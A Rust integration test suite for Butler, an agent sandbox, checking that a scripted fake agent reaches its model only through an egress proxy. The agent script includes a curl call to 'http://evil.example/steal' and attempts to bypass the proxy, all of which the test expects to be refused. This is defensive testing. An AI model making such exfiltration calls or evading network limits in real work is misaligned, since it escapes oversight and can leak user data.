//! Egress through Butler's proxy, end to end: the real `butler implement` with the default
//! network on this machine's kernel (the egress proxy, Landlock allowing its port only), a
//! scripted agent that calls its stand-in model through `$http_proxy` and `$HTTPS_PROXY` with
//! curl, and tries a host that is not allowed, a name that resolves to loopback, Butler's own
//! port, and a direct connection around the proxy. The allowed calls work (the verify
//! command's too), every other one is refused with a reason, and the evidence lists them all.

// The test plays the person at the terminal: it starts `butler` itself, as a shell would.
#![allow(clippy::disallowed_methods)]

use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::path::PathBuf;
use std::process::Command;
use std::sync::mpsc::Receiver;

use butler_testkit::fake_agent::{SCRIPT_VAR, fake_agent};
use serde_json::{Value, json};

const BUTLER: &str = env!("CARGO_BIN_EXE_butler");

/// A stand-in model server on loopback: answers every request `model-ok` and reports each
/// request line.
fn model_server() -> (u16, Receiver<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let tx = tx.clone();
            std::thread::spawn(move || {
                let mut reader = BufReader::new(stream.try_clone().expect("clone"));
                let mut first = String::new();
                let _ = reader.read_line(&mut first);
                loop {
                    let mut line = String::new();
                    if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                        break;
                    }
                }
                let _ = tx.send(first.trim().to_owned());
                let mut stream = stream;
                let _ = stream.write_all(
                    b"HTTP/1.1 200 OK\r\ncontent-length: 8\r\nconnection: close\r\n\r\nmodel-ok",
                );
            });
        }
    });
    (port, rx)
}

struct World {
    w: butler_testkit::World,
    project: PathBuf,
    data: PathBuf,
    script: PathBuf,
}

impl World {
    fn new(user_config: &str) -> Self {
        let w = butler_testkit::World::unborn();
        w.write("src/lib.rs", "pub fn one() -> i32 { 1 }\n");
        w.user_config(user_config);
        w.commit(&w.project, "initial");
        World {
            script: w.path("script.jsonl"),
            project: w.project.clone(),
            data: w.path("data"),
            w,
        }
    }

    /// `butler implement` with goose played by the fake agent, its model at `model`: its
    /// answer.
    fn implement(&self, model: u16, tests: &[&str]) -> Value {
        let out = self.run(model, tests);
        let stdout = String::from_utf8_lossy(&out.stdout);
        serde_json::from_str(&stdout)
            .unwrap_or_else(|e| panic!("{e}: {stdout}\n{}", String::from_utf8_lossy(&out.stderr)))
    }

    fn run(&self, model: u16, tests: &[&str]) -> std::process::Output {
        let mut args = vec![
            "implement".to_owned(),
            "--json".into(),
            "--goal".into(),
            "Add a greeting".into(),
            "--target".into(),
            "src/".into(),
            "--timeout".into(),
            "60".into(),
        ];
        for t in tests {
            args.extend(["--test".to_owned(), (*t).to_owned()]);
        }
        Command::new(BUTLER)
            .args(&args)
            .current_dir(&self.project)
            .env_clear()
            .env("PATH", std::env::var_os("PATH").expect("PATH"))
            .envs(self.w.env.iter().cloned())
            .env("XDG_DATA_HOME", &self.data)
            .env(SCRIPT_VAR, &self.script)
            .env("BUTLER_GOOSE_PROGRAM", fake_agent())
            .env("BUTLER_GOOSE_PROVIDER", "openai")
            .env("BUTLER_GOOSE_MODEL", "fake")
            // The user's model endpoint, which goose reads (and so does the proxy).
            .env("OPENAI_HOST", format!("http://127.0.0.1:{model}"))
            // A bypass the user had set: it must not reach the agent.
            .env("NO_PROXY", "127.0.0.1,localhost")
            .env("no_proxy", "*")
            .env(
                "BUTLER_AGENT_ENV_ALLOW",
                format!("{SCRIPT_VAR},NO_PROXY,no_proxy"),
            )
            .env("BUTLER_ISSUE_BACKEND", "local")
            .env("BUTLER_EXE", BUTLER)
            .output()
            .expect("butler runs")
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.project.join(".git/butler/tasks/t1/attempt-1.log"))
            .expect("attempt log")
    }
}

fn curl(what: &str, args: &str, format: &str) -> Value {
    json!({"do": "sh", "cmd": format!(
        "curl -sS --max-time 20 {args} -w 'fake-agent: {what} {format}\\n' >&2"
    )})
}

fn connections(section: &Value) -> &Vec<Value> {
    section["listed"].as_array().expect("listed")
}

#[test]
fn the_model_is_reached_through_the_proxy_and_everything_else_is_refused_and_shown() {
    let (model, requests) = model_server();
    let (other, _) = model_server();
    let w = World::new("[agent]\nnetwork_allow = [\"localhost\", \"*.npmjs.org\"]\n");
    let script = json!([
        {"do": "write", "path": "src/greet.rs", "text": "pub fn greet() {}\n"},
        {"do": "getenv", "name": "HTTPS_PROXY"},
        {"do": "getenv", "name": "NO_PROXY"},
        {"do": "getenv", "name": "no_proxy"},
        // Plain HTTP through `$http_proxy`, then a tunnel (`-p`: CONNECT).
        curl("model http", "\"$OPENAI_HOST/v1/models\" -o \"$TMPDIR/models\"", "%{http_code}"),
        curl("model tunnel", "-p \"$OPENAI_HOST/v1/chat\" -o \"$TMPDIR/chat\"", "%{http_code}"),
        {"do": "sh", "cmd": "cat \"$TMPDIR/models\" \"$TMPDIR/chat\" >&2; echo >&2"},
        // Not allowed; allowed by name but loopback; Butler's own port.
        curl("evil", "http://evil.example/steal", "%{http_code}"),
        curl("localhost", &format!("-p http://localhost:{other}/"), "%{http_connect}"),
        {"do": "sh", "cmd": "curl -sS --max-time 20 -p \"http://localhost:${HTTPS_PROXY##*:}/\" \
            -w 'fake-agent: butler port %{http_connect}\\n' >&2"},
        // Around the proxy: Landlock allows the proxy's port only.
        {"do": "connect", "port": model},
    ]);
    std::fs::write(&w.script, format!("{script}\n")).expect("script");
    let verify = format!("curl -sSf --max-time 20 http://127.0.0.1:{model}/verify");
    let result = w.implement(model, &[verify.as_str()]);
    assert_eq!(result["outcome"], "succeeded", "{result:#}");
    let log = w.log();

    // What the agent saw: the proxy in every variable, no bypass; its model's answers; the
    // refusals' reasons; the kernel's refusal of the direct connection.
    assert!(
        log.contains("fake-agent: HTTPS_PROXY=http://127.0.0.1:"),
        "{log}"
    );
    assert!(log.contains("fake-agent: NO_PROXY is unset"), "{log}");
    assert!(log.contains("fake-agent: no_proxy is unset"), "{log}");
    assert!(log.contains("fake-agent: model http 200"), "{log}");
    assert!(log.contains("fake-agent: model tunnel 200"), "{log}");
    assert!(log.contains("model-okmodel-ok"), "{log}");
    assert!(log.contains("fake-agent: evil 403"), "{log}");
    assert!(
        log.contains(
            "Butler's egress proxy refused evil.example:80: the host is not on the allow-list"
        ),
        "{log}"
    );
    assert!(log.contains("fake-agent: localhost 403"), "{log}");
    assert!(log.contains("fake-agent: butler port 403"), "{log}");
    assert!(
        log.contains(&format!(
            "fake-agent: connect 127.0.0.1:{model}: Permission denied"
        )),
        "{log}"
    );
    let mut seen: Vec<String> = requests.try_iter().collect();
    seen.sort();
    assert_eq!(
        seen,
        [
            "GET /v1/chat HTTP/1.1",
            "GET /v1/models HTTP/1.1",
            "GET /verify HTTP/1.1"
        ]
    );

    // The evidence: the proxy as the network, the endpoint it admitted, every connection.
    let sandbox = &result["attempts"][0]["sandbox"];
    assert_eq!(sandbox["applied"], true, "{sandbox:#}");
    assert_eq!(sandbox["network"]["kind"], "proxy", "{sandbox:#}");
    let proxy = sandbox["network"]["proxy"].as_str().expect("proxy address");
    let proxy_port: u64 = proxy
        .rsplit(':')
        .next()
        .and_then(|p| p.parse().ok())
        .expect("port");
    let egress = &sandbox["egress"];
    assert_eq!(
        egress["endpoints"],
        json!([{"host": "127.0.0.1", "port": model, "configured": true}])
    );
    assert_eq!(egress["allowed_hosts"], json!(["localhost", "*.npmjs.org"]));
    let agent = connections(&egress["agent"]);
    assert_eq!(egress["agent"]["total"], 5, "{egress:#}");
    assert_eq!(egress["agent"]["refused"], 3, "{egress:#}");
    let find = |method: &str, host: &str| {
        agent
            .iter()
            .find(|c| c["method"] == method && c["host"] == host)
            .unwrap_or_else(|| panic!("{method} {host} not in {agent:#?}"))
    };
    let plain = agent
        .iter()
        .find(|c| c["method"] == "http" && c["verdict"] == "admitted")
        .expect("the plain call");
    let tunnel = find("connect", "127.0.0.1");
    for call in [plain, tunnel] {
        assert_eq!(call["port"], model);
        assert_eq!(call["address"], format!("127.0.0.1:{model}"));
        assert_eq!(call["verdict"], "admitted");
        assert!(call["sent"].as_u64().expect("sent") > 20, "{call}");
        assert!(call["received"].as_u64().expect("received") > 8, "{call}");
    }
    let evil = find("http", "evil.example");
    assert_eq!(evil["verdict"], "refused");
    assert_eq!(evil["reason"]["kind"], "not_allowed");
    let loopback = agent
        .iter()
        .find(|c| c["host"] == "localhost" && c["port"] == other)
        .expect("localhost");
    assert_eq!(
        loopback["reason"],
        json!({"kind": "address", "class": "loopback"})
    );
    let own = agent
        .iter()
        .find(|c| c["host"] == "localhost" && c["port"] == proxy_port)
        .expect("Butler's port");
    assert_eq!(own["reason"]["kind"], "butler_port");
    // The verify command went through the same proxy.
    let verify = connections(&egress["verify"]);
    assert_eq!(verify.len(), 1, "{egress:#}");
    assert_eq!(verify[0]["verdict"], "admitted");
    assert_eq!(verify[0]["port"], model);
}

#[test]
fn network_open_is_an_explicit_choice_without_the_proxy() {
    let (model, _) = model_server();
    let w = World::new("[agent]\nnetwork = \"open\"\n");
    let script = json!([
        {"do": "write", "path": "src/greet.rs", "text": "pub fn greet() {}\n"},
        {"do": "getenv", "name": "HTTPS_PROXY"},
        {"do": "connect", "port": model},
    ]);
    std::fs::write(&w.script, format!("{script}\n")).expect("script");
    let result = w.implement(model, &["test -f src/greet.rs"]);
    assert_eq!(result["outcome"], "succeeded", "{result:#}");
    let log = w.log();
    assert!(log.contains("fake-agent: HTTPS_PROXY is unset"), "{log}");
    assert!(
        log.contains(&format!("fake-agent: connect 127.0.0.1:{model}: ok")),
        "{log}"
    );
    let sandbox = &result["attempts"][0]["sandbox"];
    assert_eq!(sandbox["network"]["kind"], "open");
    assert!(sandbox.get("egress").is_none(), "{sandbox:#}");
}

#[test]
fn a_bad_allow_list_entry_is_a_configuration_error() {
    let (model, _) = model_server();
    let w = World::new("[agent]\nnetwork_allow = [\"*.com\"]\n");
    std::fs::write(&w.script, "[]\n").expect("script");
    let out = w.run(model, &["true"]);
    assert!(!out.status.success());
    let text = String::from_utf8_lossy(&out.stderr);
    assert!(
        text.contains("[agent] network_allow: `*.com` would admit a whole top-level domain"),
        "{text}"
    );
    assert!(
        !w.project.join(".git/butler/tasks/t1").exists(),
        "no task was started"
    );
}
